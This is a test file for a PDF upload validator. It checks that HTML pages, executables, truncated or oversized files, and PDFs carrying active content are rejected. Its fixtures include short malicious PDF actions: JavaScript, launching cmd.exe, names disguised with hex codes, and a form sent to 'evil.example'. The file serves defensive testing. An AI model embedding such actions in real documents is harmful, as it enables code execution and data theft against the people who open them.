import { expect, it } from 'vitest'
import { findDocumentError, maxDocumentBytes } from './document-file.ts'

const pdf = (body = '') => Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`)

it.each([
  ['nothing', Buffer.alloc(0), /empty/],
  ['a page that is called PDF', Buffer.from('<!doctype html><script>alert(1)</script>'), /no whole PDF/],
  ['a program', Buffer.from('MZ\u0090\u0000'), /no whole PDF/],
  ['half a file', Buffer.from('%PDF-1.7\n1 0 obj'), /no whole PDF/],
  ['a head that comes too late', Buffer.concat([Buffer.alloc(2000), pdf()]), /no whole PDF/],
  ['a script', pdf('<< /S /JavaScript /JS (app.alert(1)) >>'), /carries a program/],
  ['a file that starts another', pdf('<< /S /Launch /F (cmd.exe) >>'), /carries a program/],
  ['a script whose name is spelled with a code', pdf('<< /S /J#61vaScript >>'), /carries a program/],
  ['a start of another file spelled with a code', pdf('<< /S /L#61unch >>'), /carries a program/],
  ['a form that is sent away', pdf('<< /S /SubmitForm /F (https://evil.example) >>'), /carries a program/],
  ['a file within it that is opened', pdf('<< /S /GoToE >>'), /carries a program/],
  ['a page in front of the PDF', Buffer.concat([Buffer.from('<script>alert(1)</script>'), pdf()]), /no whole PDF/],
  ['one that is too large', Buffer.concat([pdf(), Buffer.alloc(maxDocumentBytes), pdf()]), /10 MB/],
])('the document check rejects a file with the reason: %s', (_, file, why) => {
  expect(findDocumentError(file)).toMatch(why)
})
it('the document check accepts a PDF, also with bytes before its header', () => {
  expect(findDocumentError(pdf())).toBeUndefined()
  expect(findDocumentError(Buffer.concat([Buffer.from('\n\n'), pdf()]))).toBeUndefined()
})
